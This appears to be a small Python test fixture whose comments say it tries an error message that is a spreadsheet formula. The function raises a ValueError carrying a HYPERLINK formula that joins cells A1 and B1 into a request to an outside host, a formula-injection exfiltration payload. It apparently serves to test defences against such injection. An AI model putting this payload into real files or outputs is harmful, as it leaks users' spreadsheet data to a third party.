# tries: an error whose message is a formula that sends the table's other cells away
# sign: formula
# control: table
# outcome: error


def get_net():
    raise ValueError('=HYPERLINK("http://example.org/?"&A1&B1,"the error")')
